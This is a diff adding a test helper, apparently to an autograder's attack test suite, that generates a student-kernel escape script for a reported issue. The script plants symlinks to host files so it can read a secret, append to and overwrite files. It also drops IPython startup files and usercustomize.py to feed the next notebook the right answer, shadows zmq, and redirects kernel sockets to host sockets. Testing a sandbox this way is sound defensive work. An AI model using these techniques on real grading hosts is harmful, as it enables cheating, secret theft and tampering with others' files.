@@ -195,3 +195,58 @@ CHECKS_ATTACKS = {
 #: expected status of the attacks whose run does not end "ok"/"error"
 STATUS = {"self_kill": "crash", "kill_everything": "crash", "process_flood": "crash", "forked_memory": "memory",
           "run_cell_hijack": None}
+
+
+def runtime_escape_code(append_to, overwrite, secret, sockets=()) -> str:
+    """Issue 37's escape: links and planted files in every folder of the kernel's runtime the kernel can write.
+
+    ``kernel.log`` linked to ``append_to`` (the grader appended the next kernel's stderr to it) and to
+    ``secret`` (the grader read its last lines into the feedback), the font cache linked to
+    ``overwrite`` (the grader copied over it), an IPython startup file and a ``usercustomize.py``
+    that hand the next notebook the right ``x``, and the kernel's socket files replaced by links to
+    ``sockets`` (Unix sockets of the host: a reconnect by name would reach them) before it dies.
+    """
+    return f"""
+import os, sys, glob
+answer = '''
+def _fill(*a, **k):
+    ns = get_ipython().user_ns
+    if 'arm' in ns and 'q' in ns:
+        from labkit.kinematics import fk
+        ns['x'] = float(fk(ns['arm'], ns['q'])[0, 3])
+        ns['T'] = fk(ns['arm'], ns['q'])
+get_ipython().events.register('pre_run_cell', _fill)
+'''
+conn = next((a for a in sys.argv if a.endswith('.json')), '')
+folders = {{os.environ.get('JUPYTER_RUNTIME_DIR', ''), os.path.dirname(conn), os.environ.get('MPLCONFIGDIR', ''),
+           os.environ.get('IPYTHONDIR', ''), os.path.expanduser('~'), os.path.dirname(os.environ.get('JUPYTER_RUNTIME_DIR', ''))}}
+folders.discard('')
+for d in sorted(folders):
+    fonts = {{os.path.basename(p) for p in glob.glob(os.path.join(d, 'fontlist-*.json'))}} | {{'fontlist-v390.json'}}
+    for name, target in [('kernel.log', {str(append_to)!r}), ('kernel.err', {str(secret)!r})] + [
+            (font, {str(overwrite)!r}) for font in sorted(fonts)]:
+        path = os.path.join(d, name)
+        try:
+            if os.path.lexists(path):
+                os.remove(path)
+            os.symlink(target, path)
+        except OSError as exc:
+            print('no link', path, exc)
+    for sub in ('profile_default/startup', 'ipython/profile_default/startup'):
+        try:
+            os.makedirs(os.path.join(d, sub), exist_ok=True)
+            open(os.path.join(d, sub, '00-answer.py'), 'w').write(answer.replace('get_ipython()', '__import__("IPython").get_ipython()'))
+        except OSError as exc:
+            print('no startup', d, exc)
+site = os.path.expanduser('~/.local/lib/python%d.%d/site-packages' % sys.version_info[:2])
+os.makedirs(site, exist_ok=True)
+open(os.path.join(site, 'usercustomize.py'), 'w').write('import sys\\nsys.stderr.write("APPENDED-BY-THE-STUDENT\\\\n")\\n')
+open('zmq.py', 'w').write('open("/home/student/zmq-shadow-ran", "w").write("1")\\nraise SystemExit(3)\\n')
+runtime = os.environ.get('JUPYTER_RUNTIME_DIR', '')
+links = {list(map(str, sockets))!r}
+if runtime and links:
+    for i, path in enumerate(sorted(glob.glob(os.path.join(runtime, 'kernel-*')))):
+        os.rename(path, path + '.moved')
+        os.symlink(links[i % len(links)], path)
+    os._exit(0)
+"""
